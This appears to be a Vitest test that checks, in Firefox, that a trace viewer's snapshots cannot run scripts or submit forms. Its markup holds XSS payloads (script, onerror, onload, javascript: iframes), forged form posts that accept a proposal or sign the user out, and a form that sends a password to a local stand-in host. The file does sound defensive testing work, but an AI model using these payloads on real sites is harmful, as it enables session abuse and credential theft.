// @module-tag thorough
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { NO_LIMITS, type RealServer, startServer } from '@svc/test-kit/server'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { failed } from '../../../server/src/testing/upload.ts'
import { cookieOf } from '../e2e/cookie-of.ts'
import { CALL, evilTrace } from '../e2e/evil-trace.ts'
import { attach, upload } from '../e2e/send.ts'
import { type Firefox, firefoxCommand, startFirefox } from './firefox.ts'

// What `e2e/trace-origin.spec.ts` proves in Chromium. The set-up of tests does not install Firefox, which takes 300 MB.

const command = firefoxCommand()
const FORMS = ['accept', 'leave', 'password', 'search', 'run']

test.skipIf(command !== undefined)('a hostile trace in Firefox', ({ skip }) =>
  skip("no Firefox found: install Debian's package firefox-esr"),
)

describe.skipIf(command === undefined)('a hostile trace in Firefox', () => {
  let server: RealServer
  let elsewhere: Server
  let firefox: Firefox
  let received: string[] = []
  let proposal = ''
  let execution = ''
  let trace = ''
  let url = ''

  /** Forms that a click sends, and scripts that run without one. */
  const markup = () => `
<script>top.document.title='owned';window.owned=1;fetch('${url}/script')</script>
<img src=x onerror="window.owned=1;fetch('${url}/image')"><svg onload="window.owned=1"></svg>
<iframe srcdoc="<script>parent.owned=1</script>"></iframe><iframe src="javascript:parent.owned=1"></iframe>
<form id=accept method=post enctype=text/plain action=${server.url}/api/proposals/${proposal}/accept target=_top><button>1</button></form>
<form id=leave method=post enctype=text/plain action=${server.url}/api/sign-out><button>2</button></form>
<form id=password method=post action=${url}/password><input name=password value=typed><button>3</button></form>
<form id=search method=get action=${url}/search target=_blank><button>4</button></form>
<form id=run><button formaction="javascript:window.owned=1">5</button></form>`

  beforeAll(async () => {
    elsewhere = createServer((request, response) => {
      received.push(`${request.method} ${request.url}`)
      response.setHeader('Content-Type', 'text/html')
      response.end(request.url === '/control' ? markup() : '<p>elsewhere')
    })
    await new Promise<void>((resolve) => void elsewhere.listen(0, '127.0.0.1', resolve))
    url = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
    server = await startServer({ env: { ...NO_LIMITS, SVC_DASHBOARD: '1' } })
    const cookie = await cookieOf(server.url, server.welcomeUrl)
    const attachments = [{ name: 'trace', contentType: 'application/zip' }]
    const attempt = {
      status: 'failed' as const,
      durationMs: 10,
      detail: { errors: [{ message: 'No' }], attachments },
    }
    const to = { ...server, now: Date.now() }
    const uploaded = await upload(
      to,
      { build: 'evil', results: [{ ...failed('pays'), attempts: [attempt] }] },
      true,
    )
    execution = uploaded.execution
    proposal = await propose()
    await attach(to, uploaded, [evilTrace(markup())])
    const { results } = await server.get<{ results: { attempts: { attachments: { id: string }[] }[] }[] }>(
      `/api/executions/${execution}?status=failed`,
    )
    trace = results[0]?.attempts[0]?.attachments[0]?.id ?? ''
    firefox = await startFirefox(command ?? '')
    await firefox.setCookie({ ...cookie, domain: '127.0.0.1' })
  }, 600_000)

  afterAll(async () => {
    await firefox?.close()
    elsewhere?.close()
    await server?.stop()
  }, 60_000)

  const stateOf = async () => (await server.get<{ state: string }>(`/api/proposals/${proposal}`)).state
  const snapshot = () => `${server.url}/trace/snapshot/${CALL}?trace=/api/artifacts/${trace}&phase=before`

  async function propose(): Promise<string> {
    const answer = await fetch(`${server.url}/api/proposals`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${server.apiKey}` },
      body: JSON.stringify({
        project: 'shop',
        document: 'docs/rules.md',
        content: '# Rules\n\n- Always pay twice.\n',
        evidence: 'a run',
        reasoning: 'It is so.',
      }),
    })
    return ((await answer.json()) as { data: { id: string } }).data.id
  }

  /** Clicks the button of a form, and waits until the browser has done what it will do. */
  const click = async (form: string, context: string) => {
    await firefox.evaluate(`document.querySelector('#${form} button').click()`, context)
    await firefox.evaluate(`new Promise((done) => requestAnimationFrame(() => setTimeout(done)))`, context)
  }

  test('elsewhere, the same markup runs and sends: the browser would do it', {
    timeout: 300_000,
  }, async () => {
    await firefox.open(`${url}/control`)
    expect(await firefox.evaluate('window.owned')).toBe(1)
    await firefox.evaluate(`document.querySelector('#password button').click()`)
    await expect.poll(() => received, { timeout: 120_000 }).toContain('POST /password')
  })

  test('in the viewer, no script of a snapshot runs, and no form sends', { timeout: 300_000 }, async () => {
    await firefox.open(`${server.url}/executions/${execution}/traces/${trace}`)
    const shown = async () => {
      for (const { context, url } of (await firefox.places()).filter((one) =>
        one.url.includes('/trace/snapshot/'),
      ))
        if (await firefox.evaluate(`document.querySelector('#accept') !== null`, context).catch(() => false))
          return { context, url }
      return null
    }
    await expect.poll(shown, { timeout: 120_000 }).not.toBe(null)
    received = []
    for (const form of FORMS) {
      const frame = await shown()
      expect(frame, `before the click on ${form}`).not.toBe(null)
      await click(form, frame?.context ?? '')
    }
    expect(await firefox.evaluate(`fetch('/api/whoami').then(({ status }) => status)`)).toBe(200)
    for (const { context, url } of await firefox.places())
      expect([
        url,
        await firefox.evaluate(`'owned' in window || document.title === 'owned'`, context),
      ]).toEqual([url, false])
    const tabs = (await firefox.places()).filter((one) => one.url.startsWith(url))
    expect([received, tabs, await stateOf()]).toEqual([[], [], 'open'])
  })

  test('in a tab of its own, a snapshot shows nothing of the trace', { timeout: 300_000 }, async () => {
    // The viewer's worker answers: the tab has opened a trace before.
    for (const address of [snapshot(), snapshot().replace('before', 'after')]) {
      await firefox.open(address)
      expect(await firefox.evaluate('document.body.innerText')).toMatch(
        /Only the trace viewer shows snapshots/,
      )
      expect(await firefox.evaluate(`document.querySelectorAll('form, button, script, iframe').length`)).toBe(
        0,
      )
      expect(await firefox.evaluate(`'owned' in window`)).toBe(false)
    }
    expect(await stateOf()).toBe('open')
  })
})
